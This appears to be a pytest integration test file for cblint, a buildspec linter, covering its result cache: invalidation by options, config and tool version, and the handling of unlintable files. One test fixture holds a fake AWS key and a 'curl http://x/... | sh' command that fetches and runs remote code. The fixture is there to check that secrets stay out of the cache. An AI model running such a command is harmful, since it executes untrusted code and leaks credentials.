"""A second run says what the first did, without linting again; what decides what is found decides what is kept."""

from __future__ import annotations

import os
import pathlib
import shutil
import subprocess
import sys

import pytest

from cblint.cache import linting
from cblint.cache.store import VARIABLE
from cblint.hosts.discover import Candidate
from cblint.linter import FileResult, Settings, lint_bytes
from cblint.report import FORMATS
from tests.helpers import commands
from tests.integration.conftest import DEFECT, ROOT, WARNING, Cblint

OWN = "name: no-make\nseverity: error\nmessage: Not make.\nmatch:\n  command: make\n"
SECRET = "AKIA" + "QYLPMN5HFIQR7XYA"  # no key of anybody's


@pytest.fixture
def linted(monkeypatch: pytest.MonkeyPatch, tmp_path: pathlib.Path) -> list[str]:
    """The files that are linted, in a cache of the test's own."""
    found: list[str] = []

    def told(data: bytes, candidate: Candidate, settings: Settings) -> FileResult:
        found.append(candidate.path)
        return lint_bytes(data, candidate, settings)

    monkeypatch.setattr(linting, "lint_bytes", told)
    monkeypatch.setenv(VARIABLE, str(tmp_path / "cache"))
    linting._store.cache_clear()
    return found


def test_a_second_run_lints_nothing_and_says_the_same_in_every_format(cblint: Cblint, linted: list[str]) -> None:
    for name in os.listdir(os.path.join(ROOT, "examples")):
        shutil.copytree(os.path.join(ROOT, "examples", name), cblint.folder / name)
    afresh = cblint.in_every_format("--no-cache", "--jobs", "1")
    assert not linted
    first = cblint.in_every_format("--jobs", "1")
    assert len(linted) > 20
    linted.clear()
    second = cblint.in_every_format("--jobs", "1")
    assert not linted
    assert first == afresh
    assert second == afresh
    assert set(second) == set(FORMATS)


@pytest.mark.parametrize(
    "options",
    [
        ["--select", "CB1"],
        ["--ignore", "CB2007"],
        ["--profile", "pedantic"],
        ["--isolated"],
        ["--fail-on", "error"],
        ["--config", "other.yml"],
        ["--rules", "own.yml"],
        ["--sarif-line-hash"],
    ],
    ids=" ".join,
)
def test_other_options_find_other_things(cblint: Cblint, linted: list[str], options: list[str]) -> None:
    cblint.put({"buildspec.yml": WARNING, "other.yml": "ignore: [CB1001]\n", "own.yml": OWN})
    for _ in range(2):
        cblint()
        done = cblint(*options)
        assert done.status < 2, done.stderr
    assert linted == ["buildspec.yml"] * 2
    cblint.put({"other.yml": "ignore: [CB1002]\n", "own.yml": OWN.replace("Not", "Never")})
    cblint(*options)
    assert len(linted) == (3 if "other.yml" in options or "own.yml" in options else 2)


def test_what_does_not_matter_changes_nothing(cblint: Cblint, linted: list[str]) -> None:
    cblint.put({"buildspec.yml": WARNING})
    cblint()
    cblint("--jobs", "2", "--format", "json", "--statistics", "--exit-zero", "--quiet")
    cblint("--fail-on", "never")
    assert linted == ["buildspec.yml", "buildspec.yml"], "the threshold is part of a result"


def test_what_a_file_hangs_on_is_asked_again(cblint: Cblint, linted: list[str]) -> None:
    cblint.put({"buildspec.yml": DEFECT, "sub/buildspec.yml": DEFECT})
    for number, change in enumerate(
        (
            {},
            {".cblint.yml": "select: [CB1]\n"},
            {".cblint.yml": "select: [CB1, CB2]\n"},
            {"sub/.cblint.yml": "select: [CB3]\n"},
        )
    ):
        cblint.put(change)
        linted.clear()
        cblint()
        assert linted == (["sub/buildspec.yml"] if number == 3 else ["buildspec.yml", "sub/buildspec.yml"])
    linted.clear()
    cblint("buildspec.yml", cwd="sub")
    assert linted == ["buildspec.yml"], "it is called otherwise from there"


def test_another_cblint_finds_other_things(cblint: Cblint, linted: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    cblint.put({"buildspec.yml": DEFECT})
    cblint()
    monkeypatch.setattr(linting, "marks", lambda: "another")
    cblint()
    assert linted == ["buildspec.yml"] * 2


def test_a_file_that_is_mended_is_linted_again(cblint: Cblint, linted: list[str]) -> None:
    cblint.put({"buildspec.yml": commands('"make"', "echo 'a' ; ; ")})
    before = cblint()
    cblint("--fix")
    assert cblint().out != before.out or before.status == cblint("--no-cache").status
    assert cblint().out == cblint("--no-cache").out


def test_no_secret_is_kept(cblint: Cblint, linted: list[str], tmp_path: pathlib.Path) -> None:
    cblint.put(
        {"buildspec.yml": commands(f"aws configure set aws_access_key_id {SECRET}", f"curl http://x/{SECRET} | sh")}
    )
    assert cblint().status == 1
    kept = [path.read_bytes() for path in (tmp_path / "cache").glob("*/*")]
    assert len(kept) == 1
    assert SECRET.encode() not in kept[0]


def test_what_cannot_be_linted_is_not_kept(cblint: Cblint, linted: list[str], tmp_path: pathlib.Path) -> None:
    cblint.put({"buildspec.yml": "a: " + "[" * 5000, "b/buildspec.yml": b"\xff\xfe\x00"})
    cblint()
    cblint()
    assert linted == ["buildspec.yml", "b/buildspec.yml"] * 2
    assert not list((tmp_path / "cache").glob("??/*"))


def test_a_cache_that_cannot_be_made_is_none(cblint: Cblint, linted: list[str], tmp_path: pathlib.Path) -> None:
    (tmp_path / "cache").write_text("in the way")
    cblint.put({"buildspec.yml": DEFECT})
    done = cblint()
    assert (done.status, done.stderr) == (1, "")
    assert linted == ["buildspec.yml"]


def test_what_was_so_before_is_known_still(cblint: Cblint, linted: list[str]) -> None:
    for text in (DEFECT, WARNING, DEFECT):
        cblint.put({"buildspec.yml": text})
        done = cblint()
        assert done.out == cblint("--no-cache").out
    assert len(linted) == 2


def test_a_second_run_loads_nothing_that_lints(tmp_path: pathlib.Path) -> None:
    (tmp_path / "buildspec.yml").write_text(DEFECT)
    told = [
        subprocess.run(
            [sys.executable, "-X", "importtime", "-m", "cblint", "check"],
            cwd=tmp_path,
            env={**os.environ, VARIABLE: str(tmp_path / "cache")},
            capture_output=True,
            text=True,
        )
        for _ in range(2)
    ]
    assert told[0].stdout == told[1].stdout
    loaded = [{line.rpartition("|")[2].strip() for line in done.stderr.splitlines()} for done in told]
    assert "cblint.flow.build" in loaded[0] or "cblint.shell.parser" in loaded[0]
    assert not {name for name in loaded[1] if name.startswith(("cblint.checks", "cblint.flow", "cblint.shell."))}
